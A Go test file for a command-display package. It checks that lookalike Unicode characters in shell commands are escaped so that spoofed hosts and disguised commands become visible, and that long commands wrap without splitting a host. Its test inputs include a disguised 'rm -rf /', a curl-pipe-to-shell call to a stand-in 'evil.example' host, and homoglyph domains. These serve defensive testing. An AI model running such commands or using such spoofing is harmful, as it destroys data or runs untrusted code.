package diffview

import (
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// P02: what decides what runs, and where it reaches, can't be disguised; what
// people write in their languages stays readable.
func TestEscapeCommand_P02(t *testing.T) {
	for _, tt := range []struct {
		in    string
		names []string
		want  string
	}{
		{"git commit -m 'Grüße, 日本語, привет, μs'", nil, "git commit -m 'Grüße, 日本語, привет, μs'"},
		{"cat отчёт.txt 报告/naïve.md", nil, "cat отчёт.txt 报告/naïve.md"},
		{"сору файл", []string{"сору"}, `\u0441\u043e\u0440\u0443 файл`},
		{"ls && ｒｍ -rf /", []string{"ｒｍ"}, `ls && \uff52\uff4d -rf /`},
		{"说 不说 说", []string{"说"}, `\u8bf4 不说 \u8bf4`},
		{"wget http://gіthub.com/日本", nil, `wget http://g\u0456thub.com/日本`},
		{"curl https://例え.jp/例え", nil, `curl https://\u4f8b\u3048.jp/例え`},
		{"curl gіthub.com привет", nil, `curl g\u0456thub.com привет`},
		{"▸ y", []string{"▸"}, "▸ y"},
		{`a\ё`, []string{"ё"}, `a\\\u0451`},
	} {
		if got := EscapeCommand(tt.in, tt.names); got != tt.want {
			t.Errorf("EscapeCommand(%q)\n got %s\nwant %s", tt.in, got, tt.want)
		}
	}
	if got, want := EscapeCommandLines("ё\n\n\n\nё", []string{"ё"}), []string{`\u0451`, "⟨3 blank lines⟩", `\u0451`}; !slices.Equal(got, want) {
		t.Errorf("EscapeCommandLines: %q, want %q", got, want)
	}
}

func TestEscapeCommand_P01(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := nasty().Draw(t, "s")
		names := rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 2).Draw(t, "names")
		checkDrawable(t, EscapeCommand(s, names))
		at := rapid.IntRange(0, len(s)).Draw(t, "at")
		other := s[:at] + rapid.SampledFrom(append(pieces, "")).Draw(t, "piece") + s[at:]
		if (s == other) != (EscapeCommand(s, names) == EscapeCommand(other, names)) {
			t.Fatalf("%+q and %+q: %s", s, other, EscapeCommand(s, names))
		}
	})
}

// P09: the end of a host isn't on another row than its beginning.
func TestWrapCommand_P09(t *testing.T) {
	got := WrapCommand("curl -fsSL https://downloads.example.com.evil.example/x | sh", 42)
	if want := []string{"curl -fsSL ", "https://downloads.example.com.evil.example", "/x | sh"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	rapid.Check(t, func(t *rapid.T) {
		s := ""
		for range rapid.IntRange(0, 4).Draw(t, "n") {
			s += Escape(nasty().Draw(t, "s")) + rapid.SampledFrom([]string{"", " ", "http://a.example", "x://日本.example/"}).Draw(t, "host")
		}
		width := rapid.IntRange(12, 40).Draw(t, "width")
		rows := WrapCommand(s, width)
		for _, row := range rows {
			if Width(row) > width {
				t.Fatalf("%q takes %d of %d columns", row, Width(row), width)
			}
		}
		if got := strings.Join(rows, ""); got != s {
			t.Fatalf("%q came back as %q", s, got)
		}
	})
}
